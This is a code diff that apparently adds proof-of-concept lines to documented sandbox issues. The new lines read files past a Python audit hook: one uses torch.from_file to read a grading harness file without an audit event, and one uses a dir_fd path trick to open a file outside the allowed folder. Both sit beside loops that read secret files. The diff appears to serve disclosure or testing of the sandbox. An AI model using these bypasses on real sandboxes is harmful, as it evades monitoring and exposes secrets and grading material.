@@ -448,6 +448,8 @@ ISSUE_24 = {
             return bytes(torch.from_file(path, size=size, dtype=torch.uint8).numpy()) if size else b""
 
 
+        visible = str(PACKAGE / "grading" / "harness.py")  # the technique works where files exist
+        print("torch read without an audit event:", len(torch_read(visible)), "bytes of", visible)
         for path in secret_files():
             try:
                 text = torch_read(path).decode("utf-8", "replace")
@@ -493,6 +495,13 @@ ISSUE_24 = {
         def through_fd(path, flags=os.O_RDONLY):
             return os.open(up + path, flags, dir_fd=base)
 
+
+        try:  # the hook sees a path inside the folder, the kernel opens one outside it
+            fd = through_fd("/usr/lib/os-release")
+            print("dir_fd passed the hook:", len(os.read(fd, 4096)), "bytes of /usr/lib/os-release")
+            os.close(fd)
+        except OSError as exc:
+            print("dir_fd control failed:", exc.strerror)
 
         for path in secret_files():
             try:
